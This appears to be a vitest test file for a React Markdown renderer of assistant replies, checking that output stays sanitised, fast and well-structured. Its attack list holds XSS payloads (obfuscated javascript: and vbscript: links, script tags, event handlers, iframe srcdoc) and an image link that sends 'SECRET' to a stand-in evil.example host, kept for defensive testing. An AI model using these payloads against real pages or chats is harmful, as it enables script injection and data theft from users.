import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { loadTexts } from '#web/lib/texts.ts'
import { Markdown } from './markdown.tsx'

await loadTexts(['chat'], 'en')

interface Work {
  readonly user: number
}
/** Node's, which runs these tests: microseconds of work, however busy the machine is with something else. */
declare const process: { cpuUsage(since?: Work): Work }

const show = (text: string, streaming = false) =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)

const attacks = [
  '[x](javascript:alert(1)) [y](java\tscript:alert(1)) [z](java&#115;cript:alert(1)) [v](javascript&colon;alert(1))',
  '<img src=x onerror=alert(1)><script>alert(1)</script>\n\n<iframe srcdoc="<script>alert(1)</script>">',
  '![a](https://evil.example/?q=SECRET) ![b][ref]\n\n[ref]: https://evil.example/x.png "t"',
  '<javascript:alert(1)> <data:text/html,x> [d](data:text/html;base64,PHN2Zz4=) [[![a](vbscript:x)](vbscript:y)',
  '- **a\n  ```html\n  <svg onload=alert(1)>\n\n| <b onclick=x> | `<i>` |\n|---|---|\n| [q](JaVaScRiPt:x) | ![](//evil.example) |',
]
const allowed = new Set(
  'div p span a strong em del code pre ul ol li h1 h2 h3 h4 h5 h6 hr br blockquote table thead tbody tr th td section sup button'.split(
    ' ',
  ),
)

/** What a reader sees of it, without the marks that make structure. */
const visible = (html: string) =>
  html
    .replace(/<button.*?<\/button>/g, '')
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&')
const lettersOf = (text: string) => text.replace(/[^a-z]/g, '')

function expectHarmless(html: string) {
  for (const [, name] of html.matchAll(/<([a-z][\w-]*)/gi)) expect(allowed).toContain(name?.toLowerCase())
  for (const [, href] of html.matchAll(/\shref="([^"]*)"/g))
    expect(href).toMatch(/^(?:https?:|ircs?:|mailto:|xmpp:|\/\/|#|$)/)
  expect(html).not.toMatch(/<[^>]*\s(?:on\w+|src|srcset|srcdoc)=/i)
}

describe('an assistant reply', () => {
  it('S1, S7: holds nothing but allowed elements and addresses at every prefix of an attack', () => {
    for (const attack of attacks) {
      for (let end = 0; end <= attack.length; end++) expectHarmless(show(attack.slice(0, end), true))
      expectHarmless(show(attack))
    }
  })

  it('S1: stays harmless when attacks are spliced into each other', () => {
    const piece = fc.constantFrom(...attacks.flatMap((attack) => attack.split(/(?=[<[!`|\n])/)))
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expectHarmless(show(pieces.join(''), true))
        expectHarmless(show(pieces.join('')))
      }),
      { numRuns: 200 },
    )
  })

  it('keeps French punctuation on the line of its word, and code as it is', () => {
    expect(show('« Oui » : un accord ! `a ? b : c`')).toContain(
      '«\u00a0Oui\u00a0»\u00a0: un accord\u00a0! <code>a ? b : c</code>',
    )
  })

  it('S8: shows an image as a link that names its host', () => {
    expect(show('![plan](https://img.example/a.png)')).toContain('Show image from img.example</a>')
  })

  it('opens links in a new tab without handing anything over', () => {
    expect(show('[a](https://a.example)')).toContain('target="_blank" rel="noopener noreferrer nofollow"')
  })

  const asWritten = (text: string) => text
  it.each([
    ['> '.repeat(10_000), asWritten],
    ['>'.repeat(10_000), asWritten],
    ['['.repeat(10_000), asWritten],
    ['- '.repeat(10_000), asWritten],
    ['*a_ '.repeat(5_000), asWritten],
    ['[a]('.repeat(2_500), asWritten],
    ['<b>'.repeat(3_000), asWritten],
    [`|a|b\n|-|-\n${'|'.repeat(10_000)}`, lettersOf],
    [`${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|\n|x`, lettersOf],
    [`${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${'|x\n'.repeat(2_000)}`, lettersOf],
    [`~~~js\n${'<b>&'.repeat(2_500)}`, lettersOf],
    ['`'.repeat(10_001), lettersOf],
  ])('S3: shows all of %.6s… at a hostile length, in a tenth of a second of work', (text, partOf) => {
    const times = [1, 2, 3].map(() => {
      const began = process.cpuUsage()
      show(text, true)
      show(text)
      return process.cpuUsage(began).user / 1000
    })
    // The best of three: the first also translates the code.
    expect(Math.min(...times)).toBeLessThan(200)
    const html = show(text)
    expectHarmless(html)
    expectHarmless(show(text, true))
    expect(partOf(visible(html))).toContain(partOf(text))
  })

  it.each([
    ['**Do next**\n\n1. Call', '<p><strong>Do next</strong></p>'],
    ['### Nächste Schritte:\n- Anrufen', '<h2 data-depth="3">Nächste Schritte</h2>'],
    ['**Qué hacer ahora:**\n1. Llamar', '<p><strong>Qué hacer ahora</strong></p>'],
    ['## Ce qui compte\n\n- Le prix', '<h2 data-depth="2">Ce qui compte</h2>'],
  ])('sets the label of %j beside its list, streaming and complete', (text, label) => {
    for (const streaming of [true, false]) expect(show(text, streaming)).toMatch(/<section class="[^"]*">/)
    for (const streaming of [true, false]) expect(show(text, streaming)).toContain(label)
  })

  it('leaves a label without a list as it is', () => {
    expect(show('**Do next**\n\nRest.')).not.toContain('<section')
    expect(show('**Do next**\n\nRest.', true)).not.toContain('<section')
  })

  it('skips no heading level', () => {
    const html = show('### a\n\n##### b\n\n# c\n\n#### d')
    expect([...html.matchAll(/<h(\d)/g)].map((match) => match[1]).join('')).toBe('2323')
  })

  it('shows every word of an open text', () => {
    const text = 'We met **14 people** and asked each of them\n\n- one price, one date and one name'
    const words = (html: string) =>
      html
        .replace(/<[^>]*>/g, '')
        .replace(/\s+/g, ' ')
        .trim()
    expect(words(show(text, true))).toBe(words(show(text)))
  })
})
